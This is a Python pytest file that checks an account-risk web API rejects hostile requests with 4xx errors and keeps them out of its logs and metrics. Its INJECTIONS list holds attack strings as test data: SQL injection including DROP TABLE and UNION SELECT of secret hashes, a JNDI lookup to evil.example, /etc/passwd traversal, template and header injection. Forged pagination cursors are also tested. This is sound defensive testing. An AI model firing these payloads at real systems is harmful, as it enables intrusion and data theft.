"""Requests that mean harm: 4xx, never 500, and nothing of them in log or metrics."""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from models.store import SnapshotStore
from serving.application import Service, create_app
from serving.journal import RequestLog
from serving.settings import Settings
from tests.integration.client import ask, problem
from tests.integration.company import due, snapshot

BATCH = "/v1/accounts/batch"
INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE account_score; --",
    '" OR ""="',
    "A1' UNION SELECT secret_hash FROM api_key --",
    "%",
    "_",
    "A1\\",
    "A1); SELECT pg_sleep(5); --",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "{{7*7}}",
    "\r\nX-Injected: 1",
    '", "level": "error',
    "\u202egnp.exe",
)
FILTERS = ("segment", "account_tier", "owner", "region", "parent_id")


@pytest.fixture
def lines() -> list[bytes]:
    return []


@pytest.fixture
def app(tmp_path: Path, lines: list[bytes]) -> Iterator[Service]:
    url = f"sqlite:///{tmp_path}/store.db"
    with SnapshotStore(url) as store:
        store.publish(snapshot(due("A1", 0.5), due("A2", 0.4)))
    made = create_app(Settings(store_url=url, refresh_s=0), log=RequestLog(lines.append))
    yield made
    made.close()


@pytest.fixture(params=[64, 0], ids=["in memory", "by request"])
def both(request: pytest.FixtureRequest, tmp_path: Path, app: Service) -> Iterator[Service]:
    del app  # has published
    url = f"sqlite:///{tmp_path}/store.db"
    made = create_app(Settings(store_url=url, refresh_s=0, memory_mb=request.param))
    yield made
    made.close()


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_in_a_parameter_finds_nothing(both: Service, text: str) -> None:
    odd = quote(text, safe="")
    for place in ("accounts", "external-ids"):
        problem(ask(both, f"/v1/{place}/{odd}/risk"), 404, "unknown-account")
        # The router takes no line break for a part of a path.
        kind = "not-found" if "\n" in text else "unknown-account"
        problem(ask(both, f"/v1/{place}/{odd}/history"), 404, kind)
    for name in FILTERS:
        told = ask(both, f"/v1/accounts?{name}={odd}").json()
        assert told["accounts"] == []
    results = ask(both, BATCH, method="POST", json={"account_ids": [text]}).json()["results"]
    assert results == [{"id": text, "error": "unknown-account"}]
    for name in ("sort", "state", "risk_tier", "group_by", "changed_since", "decision_after"):
        problem(ask(both, f"/v1/accounts?{name}={odd}"), 422, "invalid-request")
    problem(
        ask(both, f"/v1/models/{odd}"), 404, "unknown-model" if "/" not in text else "not-found"
    )
    assert ask(both, "/v1/accounts").json()["accounts"][0]["account_id"] == "A1"


@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_of_a_request_forges_a_line_of_the_log_or_a_metric(
    app: Service, lines: list[bytes], text: str, caplog: pytest.LogCaptureFixture
) -> None:
    odd = quote(text, safe="")
    asked = (f"/v1/accounts/{odd}/risk", f"/{odd}", f"/v1/accounts?{odd}={odd}")
    with caplog.at_level(logging.INFO):
        for path in asked:
            headers = {"X-Request-Id": text.strip().encode("ascii", "replace").decode()}
            response = ask(app, path, headers=headers, method="GET")
            assert "x-injected" not in response.headers
    app.guards.log.flush()
    told = b"".join(lines).decode("ascii").splitlines()
    assert len(told) == len(asked)
    for line in map(json.loads, told):
        assert set(line) == {
            "time", "level", "logger", "message", "request_id", "method", "route", "status",
            "bytes", "ms", "key",
        }  # fmt: skip
        assert line["level"] == "info"
        assert line["route"] in ("/v1/accounts/{account_id}/risk", "/v1/accounts", "")
    ours = [record.getMessage() for record in caplog.records if record.name != "httpx"]
    assert "evil.example" not in str(ours)
    if len(text) > 1:
        assert text.strip() not in ask(app, "/metrics").text


def test_the_log_tells_of_a_request_by_its_id_and_never_of_whom_it_asked(
    app: Service, lines: list[bytes]
) -> None:
    response = ask(app, "/v1/accounts/A1/risk", headers={"X-Request-Id": "crm-77.a_B"})
    assert response.headers["x-request-id"] == "crm-77.a_B"
    missing = ask(app, "/v1/accounts/A9/risk")
    app.guards.log.flush()
    first, second = map(json.loads, b"".join(lines).splitlines())
    assert (first["request_id"], first["status"], first["method"]) == ("crm-77.a_B", 200, "GET")
    assert (first["bytes"], first["key"]) == (len(response.content), None)
    assert first["route"] == second["route"] == "/v1/accounts/{account_id}/risk"
    assert second["request_id"] == missing.json()["request_id"]
    assert b"A1" not in b"".join(lines)
    assert b"A9" not in b"".join(lines)


@pytest.mark.parametrize(
    "handed", ["", "a b", "x" * 65, '"', "a\tb", "<script>", f"kw_0123abcz_{'s' * 43}"]
)
def test_an_odd_request_id_is_replaced(app: Service, handed: str) -> None:
    given = ask(app, "/livez", headers={"X-Request-Id": handed}).headers["x-request-id"]
    assert given not in ("", handed)


def body_of(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"A1"',
        b"\xff\xfe",
        b'{"account_ids": [NaN]}',
        b'{"account_ids": [Infinity]}',
        b'{"account_ids": [1e999]}',
        b'{"account_ids": ["\\ud800"]}',
        body_of('{"account_ids": ["\ud800"]}'),
        b'{"account_ids": ["a\\u0000b"]}',
        b'{"account_ids": [""]}',
        b'{"account_ids": []}',
        b'{"account_ids": [1]}',
        b'{"account_ids": [true, null]}',
        b'{"account_ids": [["A1"]]}',
        b'{"account_ids": "A1"}',
        b'{"account_ids": ["A1"], "external_ids": ["001A1"]}',
        b'{"account_ids": ["A1"], "more": 1}',
        b'{"account_ids": ["' + b"x" * 513 + b'"]}',
        json.dumps({"account_ids": ["A"] * 10_001}).encode(),
        b'{"account_ids": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    ],
    ids=lambda body: repr(body[:40]),
)
def test_a_body_that_is_not_as_documented_is_a_422_problem(app: Service, body: bytes) -> None:
    headers = {"Content-Type": "application/json"}
    response = ask(app, BATCH, method="POST", content=body, headers=headers)
    document = problem(response, 422, "invalid-request")
    assert document["errors"]
    assert all(one["place"] == "body" for one in document["errors"])
    assert len(response.content) < 8_000


def test_a_body_that_is_no_json_by_its_type_is_a_422_problem(app: Service) -> None:
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        response = ask(
            app,
            BATCH,
            method="POST",
            content=b'{"account_ids": ["A1"]}',
            headers={"Content-Type": kind},
        )
        problem(response, 422, "invalid-request")


@pytest.mark.parametrize(
    ("body", "kind", "said"),
    [
        (b'{"account_ids": [NaN]}', "application/json", "Must be sound JSON; it is not from byte"),
        (b'{"account_ids": ["A1"]}', "text/plain", "Content-Type: application/json"),
    ],
)
def test_of_a_body_that_cannot_be_read_it_is_told_why(
    app: Service, body: bytes, kind: str, said: str
) -> None:
    headers = {"Content-Type": kind}
    answer = ask(app, BATCH, method="POST", content=body, headers=headers)
    (fault,) = problem(answer, 422, "invalid-request")["errors"]
    assert fault["pointer"] == "#"
    assert said in fault["detail"]


def test_a_body_that_is_too_large_is_a_413_problem(app: Service) -> None:
    large = b" " * 1_048_577
    for path in (BATCH, "/nowhere"):
        response = ask(app, path, method="POST", content=large)
        problem(response, 413, "too-large")
        assert response.headers["connection"] == "close"


@pytest.mark.parametrize("length", ["-1", "x", "9" * 30, "1e3", "2000000", ""])
def test_an_odd_content_length_is_a_413_problem(app: Service, length: str) -> None:
    headers = {"Content-Length": length}
    problem(ask(app, BATCH, method="POST", headers=headers, content=b""), 413, "too-large")


@pytest.mark.parametrize(
    "query",
    [
        "limit=NaN",
        "limit=1&limit=2",
        "cursor=a&cursor=b",
        "min_change=NaN",
        "min_change=Infinity",
        "min_change=-1",
        "min_change=1e-400",
        "decision_after=2026-02-30",
        "decision_after=99999-01-01",
        "decision_after=" + "9" * 400,
        "decision_before=now",
        "decision_before=0.0",
        "decision_before=1700000000",
        "decision_before=2026-11-30T00:00:00Z",
        "changed_since=x",
        "changed_since=1m803jec5jhp%0a",
        "segment=",
        "segment=%00",
        "segment=" + "x" * 513,
        "&".join(f"segment=s{number}" for number in range(51)),
        "state=score",
        "risk_tier=HIGH",
        "sort=name",
        "sort=owner",
        "group_by=owner",
        "group_by=parent&sort=arr",
        "Segment=smb",
        "segment%5B%5D=smb",
        "filter=segment",
        "=",
        "%ff=1",
    ],
)
def test_a_query_that_is_not_as_documented_is_a_422_problem(app: Service, query: str) -> None:
    response = ask(app, f"/v1/accounts?{query}")
    assert problem(response, 422, "invalid-request")["errors"]
    assert len(response.content) < 8_000


@pytest.mark.parametrize(
    "path", ["/v1/portfolio", "/v1/snapshots", "/livez", "/readyz", "/metrics"]
)
def test_no_path_passes_over_a_parameter_that_it_does_not_know(app: Service, path: str) -> None:
    problem(ask(app, f"{path}?segment=smb"), 422, "invalid-request")


def test_forged_cursors_are_refused_or_show_nothing_more(app: Service) -> None:
    real = ask(app, "/v1/accounts?limit=1").json()["next_cursor"]
    plain = base64.urlsafe_b64decode(real + "=" * (-len(real) % 4)).decode()
    snapshot_id, start, mark = plain.split(".")

    def forge(*parts: str) -> str:
        return base64.urlsafe_b64encode(".".join(parts).encode()).decode().rstrip("=")

    for forged in (
        forge(snapshot_id, start, "0" * 16),
        forge(snapshot_id, "-1", mark),
        forge(snapshot_id, "01", mark),
        forge(snapshot_id, "9" * 12, mark),
        forge(snapshot_id.upper(), start, mark),
        forge("' OR 1=1 --.x", start, mark),
        forge(snapshot_id, start),
        forge(snapshot_id, start, mark, mark),
        real[:-1],
        real + "A",
        real.swapcase(),
    ):
        problem(ask(app, f"/v1/accounts?cursor={quote(forged)}"), 422, "invalid-request")
    problem(ask(app, f"/v1/accounts?cursor={forge('0' * 13, start, mark)}"), 410, "snapshot-gone")
    far = ask(app, f"/v1/accounts?cursor={forge(snapshot_id, '999999999', mark)}").json()
    assert (far["accounts"], far["has_more"]) == ([], False)
